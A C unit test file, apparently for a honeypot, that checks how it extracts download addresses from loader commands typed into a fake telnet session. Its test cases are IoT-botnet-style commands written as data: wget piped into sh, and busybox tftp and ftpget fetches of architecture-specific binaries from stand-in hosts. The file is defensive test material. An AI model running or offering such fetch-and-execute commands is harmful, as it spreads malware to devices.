/*
 * Download addresses in what loaders type, and what is none.
 */
#include "decoy/download.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <string.h>

#include <cmocka.h>

static void add(void *context, struct text url)
{
	struct builder *found = context;
	build_text(found, url);
	build_char(found, ' ');
}

static const struct {
	const char *command, *found;
} cases[] = {
	{ "wget http://198.51.100.9/a.sh", "http://198.51.100.9/a.sh " },
	{ "cd /tmp||cd /var/run;wget HTTP://Evil.Example:80/a/../b.sh -O- |sh", "http://evil.example/b.sh " },
	{ "/bin/busybox wget 198.51.100.9/x -O /tmp/y.z; sh y", "http://198.51.100.9/x " },
	{ "curl -s -O 198.51.100.9:8080/bins/x.arm7", "http://198.51.100.9:8080/bins/x.arm7 " },
	{ "curl -o a.b \"https://files.example/i?x=1\"", "https://files.example/i?x=1 " },
	{ "tftp -g -l x.mips -r bins/x.mips 198.51.100.4", "tftp://198.51.100.4/bins/x.mips " },
	{ "tftp 198.51.100.4 -c get x.sh", "tftp://198.51.100.4/x.sh " },
	{ "/bin/busybox tftp -r a -g 198.51.100.4; tftp -g 192.0.2.1", "tftp://198.51.100.4/a " },
	{ "ftpget -v -u anonymous -p x -P 21 198.51.100.5 l.sh r/l.sh", "ftp://198.51.100.5/r/l.sh " },
	{ "ftp://198.51.100.6/a,(tftp://198.51.100.7/b)", "ftp://198.51.100.6/a, tftp://198.51.100.7/b " },
	{ "wget -q -O - $(echo aHR0)", "" },
	{ "echo wgetx curly http:// tftp", "" },
	{ "wget", "" },
	{ "", "" },
};

static void test_addresses_are_found_as_they_are_typed(void **state)
{
	(void)state;
	for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
		struct builder found = { 0 };
		build_text(&found, TEXT(""));
		download_find(text_of(cases[i].command), add, &found);
		assert_string_equal(found.at ? found.at : "", cases[i].found);
		builder_free(&found);
	}
}

static void test_a_session_names_each_once_and_not_too_many(void **state)
{
	const struct session_settings settings = { .bytes_most = 65536, .login_after = 1 };
	struct session session;
	char line[80];
	(void)state;
	assert_true(session_begin(&session, protocol_named(TEXT("telnet")), &settings, 0));
	session_take(&session, TEXT("a\nb\n"));
	for (unsigned i = 0; i < 60; i++)
		session_take(&session,
		    (struct text){ line, (size_t)snprintf(line, sizeof line, "wget http://192.0.2.1/%u\n", i / 2) });
	size_t before = session.facts.size;
	session_finish(&session, SESSION_LEFT);
	/* 10 of one digit, 6 of two */
	assert_int_equal(session.facts.size - before,
	    10 * (5 + strlen("http://192.0.2.1/1")) + 6 * (5 + strlen("http://192.0.2.1/11")));
	session_free(&session);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_addresses_are_found_as_they_are_typed),
		cmocka_unit_test(test_a_session_names_each_once_and_not_too_many),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
